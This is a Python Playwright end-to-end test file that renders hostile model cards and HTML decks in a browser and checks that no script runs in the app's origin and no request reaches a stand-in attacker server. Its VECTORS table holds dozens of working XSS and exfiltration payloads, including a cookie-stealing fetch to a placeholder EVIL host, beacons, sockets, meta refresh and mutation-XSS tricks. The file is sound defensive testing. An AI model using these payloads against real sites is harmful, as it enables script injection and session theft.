"""Cards and decks that mean harm, looked at in a real browser: nothing of them runs as us, nothing leaves the page.

The vectors send to a server of the test, which must hear nothing. A deck's scripts may run, in an origin of their own.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from playwright.sync_api import BrowserContext
from pytest_django.live_server_helper import LiveServer

from artifacts.models import Kind
from artifacts.store import store
from scheduler.phases import NodePhase
from tests.console.pages.cast import World, make_node, make_version
from tests.e2e.test_pages import browser, log_in, world

__all__ = ["browser", "world"]
pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

RUNS = "try{top.harm=1}catch(e){};try{parent.harm=1}catch(e){};self.harm=1;fetch('EVIL/fetch?'+document.cookie)"
SENDS = (
    "new Image().src='EVIL/image';navigator.sendBeacon('EVIL/beacon');new WebSocket('ws:EVIL/socket');"
    "new EventSource('EVIL/events');open('EVIL/window');import('EVIL/module');new Worker('EVIL/worker')"
)
VECTORS = {
    "script": f"<script>{RUNS}</script>",
    "every way to send": "".join(f"<script>{one}</script>" for one in SENDS.split(";")),
    "navigation": "<script>location='EVIL/away'</script>",
    "navigation of the tab": "<script>top.location='EVIL/away'</script>",
    "form": "<form id=f action='EVIL/form' method=post><input name=a></form><script>f.submit()</script>",
    "handler": f'<img src=x onerror="{RUNS}">',
    "markdown image": "![x](EVIL/markdown.png)",
    "markdown link": "[x](javascript:top.harm=1) ![x](javascript:top.harm=1)",
    "image": '<img src="EVIL/image.png"><img srcset="EVIL/set.png 1x"><input type=image src="EVIL/input.png">',
    "drawing": f'<svg onload="{RUNS}"><image href="EVIL/svg.png"/><script>{RUNS}</script></svg>',
    "frame": '<iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">',
    "frame with text": f'<iframe srcdoc="<script>{RUNS.replace(chr(39), "&#39;")}</script>"></iframe>',
    "style": "<style>@import url(EVIL/import.css);body{background:url(EVIL/body.png)}</style>",
    "style of an element": '<p style="background:url(EVIL/p.png)">x</p><table background="EVIL/table.png"></table>',
    "link": '<link rel=stylesheet href="EVIL/a.css"><link rel=prefetch href=EVIL/prefetch><link rel=icon href=EVIL>',
    "refresh": '<meta http-equiv="refresh" content="0;url=EVIL/refresh">',
    "base": '<base href="EVIL/"><img src="relative.png"><a href="x" autofocus>x</a>',
    "media": '<video src="EVIL/v.mp4" poster="EVIL/p.png" autoplay></video><audio src="EVIL/a.mp3" autoplay></audio>',
    "details": f'<details open ontoggle="{RUNS}">x</details><a href="#" onfocus="{RUNS}" autofocus>x</a>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=top.harm=1>"></p></noscript>',
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=top.harm=1&gt;'>",
    "broken code": "```\n</code></pre><script>top.harm=1</script>\n```\n$<script>top.harm=1</script>$",
}


@pytest.fixture(scope="module")
def heard() -> Iterator[tuple[str, list[str]]]:
    """The address of a server elsewhere, and the paths that it was asked for."""
    asked: list[str] = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def context(browser: object) -> Iterator[BrowserContext]:
    with browser.new_context() as context:  # type: ignore[attr-defined]
        yield context


def test_the_server_elsewhere_would_hear_it(heard: tuple[str, list[str]], context: BrowserContext) -> None:
    """What the other tests rely on."""
    evil, asked = heard
    page = context.new_page()
    page.set_content(VECTORS["image"].replace("EVIL", evil), wait_until="networkidle")
    page.close()
    assert "/image.png" in asked
    asked.clear()


def card_page(world: World, number: int, text: str, card_format: str = "markdown") -> str:
    version = make_version("ml-model", Kind.MODEL, number=500 + number, card=text, card_format=card_format)
    return f"/artifacts/versions/{version.pk}/card/"


def card_of_the_api(world: World, number: int, text: str) -> str:
    version = make_version("ml-model", Kind.MODEL, number=500 + number, card=text, card_format="html")
    return f"/api/v1/artifacts/demo/development/ml-model/versions/{version.version}/card"


def deck_alone(world: World, number: int, text: str) -> str:
    """The deck in a frame, as on its node's page too."""
    uri = store().join(store().root, "metadata", world.trains.key, f"deck{number}.html")
    store().put(uri, f"<html><body>{text}</body></html>".encode())
    make_node(world.trains, f"n{number + 7}", NodePhase.SUCCEEDED, deck_uri=uri)
    return f"/executions/demo/development/atrains/nodes/n{number + 7}/deck/"


@pytest.mark.parametrize("shown", [card_page, card_of_the_api, deck_alone])
def test_hostile_cards_and_decks_run_nothing_as_us_and_tell_nobody(
    shown: Callable[[World, int, str], str],
    heard: tuple[str, list[str]],
    context: BrowserContext,
    live_server: LiveServer,
    world: World,
) -> None:
    evil, asked = heard
    log_in(context, live_server, world)
    with closing(context.new_page()) as page:
        for number, (name, vector) in enumerate(VECTORS.items()):
            text = vector.replace("ws:EVIL", evil.replace("http", "ws")).replace("EVIL", evil)
            address = live_server.url + shown(world, number, text)
            page.goto(address)
            page.wait_for_timeout(60)
            assert page.url == address, f"{name}: it led elsewhere"
            assert page.evaluate("self.harm") is None, f"{name}: it ran in our page"
            assert len(context.pages) == 1, f"{name}: it opened a window"
            assert asked == [], name
        if shown is deck_alone:
            frame = next(frame for frame in page.frames if frame is not page.main_frame)
            assert frame.evaluate("self.origin") == "null"
